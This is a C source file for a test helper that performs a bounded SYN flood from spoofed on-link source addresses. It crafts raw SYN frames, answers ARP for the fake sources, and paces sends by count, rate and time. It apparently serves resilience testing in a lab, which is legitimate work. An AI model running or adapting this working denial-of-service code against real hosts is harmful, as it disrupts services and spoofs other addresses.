/* synflood: a bounded SYN flood from spoofed sources, for tests/e2e/rel_synflood.bats.
 *
 *   synflood IFACE DST PORT COUNT RATE MAXSECS SRCBASE NSRC
 *
 * Sends COUNT SYNs (MSS, SACK-permitted, timestamps, window scale: what a real client
 * offers) to DST:PORT through an AF_PACKET socket on IFACE, at about RATE per second, and
 * stops after MAXSECS whatever the count. Sources are NSRC addresses from SRCBASE up (an
 * on-link range nobody owns) with random ports and sequence numbers; the tool answers ARP
 * for them itself, so the victim's SYN-ACKs really go out (to a MAC nobody listens on).
 * Prints "sent N in S s (R/s), arp answered A". Only for the lab's namespaces. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const uint8_t our_mac[6] = { 0x02, 0x00, 0x5e, 0x10, 0x00, 0x01 };
static uint8_t dst_mac[6];
static int tx, arpfd, ifindex;
static uint32_t src_base, nsrc;
static unsigned long arp_answered;

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint64_t rng = 0x9e3779b97f4a7c15ull;
static uint32_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 16);
}

static uint16_t csum_fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static uint32_t csum_add(uint32_t s, const void *p, size_t n)
{
	const uint8_t *b = p;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		s += (uint32_t)(b[n - 1] << 8);
	return s;
}

static void send_frame(const void *f, size_t n)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6 };
	memcpy(sll.sll_addr, f, 6);
	while (sendto(tx, f, n, 0, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
		if (errno != ENOBUFS && errno != EAGAIN) {
			perror("sendto");
			exit(1);
		}
		usleep(100);
	}
}

static void arp_frame(uint8_t *f, uint16_t op, const uint8_t *tha, uint32_t spa, uint32_t tpa,
		      const uint8_t *eth_dst)
{
	memcpy(f, eth_dst, 6);
	memcpy(f + 6, our_mac, 6);
	f[12] = 0x08; f[13] = 0x06;
	uint8_t *a = f + 14;
	a[0] = 0; a[1] = 1; a[2] = 0x08; a[3] = 0; a[4] = 6; a[5] = 4;
	a[6] = 0; a[7] = (uint8_t)op;
	memcpy(a + 8, our_mac, 6);
	uint32_t s = htonl(spa), t = htonl(tpa);
	memcpy(a + 14, &s, 4);
	memcpy(a + 18, tha, 6);
	memcpy(a + 24, &t, 4);
	memset(f + 42, 0, 18);
}

/* Answer ARP requests for our spoofed sources; learn DST's MAC from its replies. */
static int arp_poll(uint32_t dst, int timeout_ms)
{
	uint8_t b[2048];
	int got = 0;
	struct pollfd pfd = { .fd = arpfd, .events = POLLIN };
	while (poll(&pfd, 1, timeout_ms) > 0) {
		ssize_t n = recv(arpfd, b, sizeof(b), MSG_DONTWAIT);
		if (n < 42)
			break;
		timeout_ms = 0;
		const uint8_t *a = b + 14;
		uint32_t spa, tpa;
		memcpy(&spa, a + 14, 4);
		memcpy(&tpa, a + 24, 4);
		spa = ntohl(spa);
		tpa = ntohl(tpa);
		if (a[7] == 2 && spa == dst) {
			memcpy(dst_mac, a + 8, 6);
			got = 1;
		} else if (a[7] == 1 && tpa - src_base < nsrc) {
			uint8_t f[60];
			arp_frame(f, 2, a + 8, tpa, spa, a + 8);
			send_frame(f, sizeof(f));
			arp_answered++;
		}
	}
	return got;
}

static size_t syn_frame(uint8_t *f, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
			uint32_t seq, uint32_t tsval)
{
	memcpy(f, dst_mac, 6);
	memcpy(f + 6, our_mac, 6);
	f[12] = 0x08; f[13] = 0x00;
	uint8_t *ip = f + 14, *t = ip + 20;
	/* options: MSS 1460, SACK-permitted, TS, NOP, WS 7 (20 bytes) */
	static const uint8_t opt0[] = { 2, 4, 0x05, 0xb4, 4, 2, 8, 10 };
	memset(t, 0, 40);
	t[0] = (uint8_t)(sport >> 8); t[1] = (uint8_t)sport;
	t[2] = (uint8_t)(dport >> 8); t[3] = (uint8_t)dport;
	uint32_t s = htonl(seq);
	memcpy(t + 4, &s, 4);
	t[12] = 10 << 4;
	t[13] = 0x02;
	t[14] = 0xff; t[15] = 0xff;
	memcpy(t + 20, opt0, sizeof(opt0));
	uint32_t tv = htonl(tsval);
	memcpy(t + 28, &tv, 4);
	t[36] = 1; t[37] = 3; t[38] = 3; t[39] = 7;
	uint32_t sn = htonl(src), dn = htonl(dst);
	uint8_t ph[12];
	memcpy(ph, &sn, 4);
	memcpy(ph + 4, &dn, 4);
	ph[8] = 0; ph[9] = 6; ph[10] = 0; ph[11] = 40;
	uint16_t c = csum_fold(csum_add(csum_add(0, ph, 12), t, 40));
	t[16] = (uint8_t)(c >> 8); t[17] = (uint8_t)c;
	memset(ip, 0, 20);
	ip[0] = 0x45; ip[3] = 60;
	uint16_t id = (uint16_t)rnd();
	ip[4] = (uint8_t)(id >> 8); ip[5] = (uint8_t)id;
	ip[6] = 0x40; ip[8] = 64; ip[9] = 6;
	memcpy(ip + 12, &sn, 4);
	memcpy(ip + 16, &dn, 4);
	c = csum_fold(csum_add(0, ip, 20));
	ip[10] = (uint8_t)(c >> 8); ip[11] = (uint8_t)c;
	return 14 + 60;
}

int main(int argc, char **argv)
{
	if (argc != 9) {
		fprintf(stderr, "usage: synflood IFACE DST PORT COUNT RATE MAXSECS SRCBASE NSRC\n");
		return 2;
	}
	struct in_addr a;
	if (!inet_aton(argv[2], &a))
		return 2;
	uint32_t dst = ntohl(a.s_addr);
	uint16_t port = (uint16_t)atoi(argv[3]);
	long count = atol(argv[4]), rate = atol(argv[5]);
	double maxs = atof(argv[6]);
	if (!inet_aton(argv[7], &a))
		return 2;
	src_base = ntohl(a.s_addr);
	nsrc = (uint32_t)atoi(argv[8]);
	if (count <= 0 || rate <= 0 || maxs <= 0 || nsrc == 0 || nsrc > 4096)
		return 2;
	ifindex = (int)if_nametoindex(argv[1]);
	if (!ifindex) {
		perror(argv[1]);
		return 1;
	}
	tx = socket(AF_PACKET, SOCK_RAW, 0);         /* sends only: protocol 0 receives nothing */
	arpfd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
	if (tx < 0 || arpfd < 0) {
		perror("socket(AF_PACKET)");
		return 1;
	}
	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ARP),
				   .sll_ifindex = ifindex };
	if (bind(arpfd, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
		perror("bind");
		return 1;
	}
	rng ^= (uint64_t)getpid() << 20 ^ (uint64_t)time(NULL);
	/* the victim's MAC */
	static const uint8_t bcast[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
	static const uint8_t zero[6];
	int ok = 0;
	for (int i = 0; i < 20 && !ok; i++) {
		uint8_t f[60];
		arp_frame(f, 1, zero, src_base, dst, bcast);
		send_frame(f, sizeof(f));
		ok = arp_poll(dst, 250);
	}
	if (!ok) {
		fprintf(stderr, "synflood: no ARP answer from %s\n", argv[2]);
		return 1;
	}
	double t0 = now_s(), deadline = t0 + maxs;
	long sent = 0;
	const long batch = 32;
	while (sent < count && now_s() < deadline) {
		/* pace: never ahead of RATE; answer ARP while waiting */
		double due = t0 + (double)sent / rate, d;
		arp_poll(dst, 0);
		while ((d = due - now_s()) > 0)
			arp_poll(dst, (int)(d * 1000) + 1);
		for (long i = 0; i < batch && sent < count; i++, sent++) {
			uint8_t f[74];
			uint32_t src = src_base + rnd() % nsrc;
			uint16_t sport = (uint16_t)(1024 + rnd() % 60000);
			size_t n = syn_frame(f, src, dst, sport, port, rnd(), rnd());
			send_frame(f, n);
		}
	}
	double el = now_s() - t0;
	/* answer ARP a little longer: the last SYN-ACKs */
	for (int i = 0; i < 10; i++)
		arp_poll(dst, 100);
	printf("sent %ld in %.2f s (%.0f/s), arp answered %lu\n", sent, el, sent / (el > 0 ? el : 1),
	       arp_answered);
	return sent == count ? 0 : 3;
}
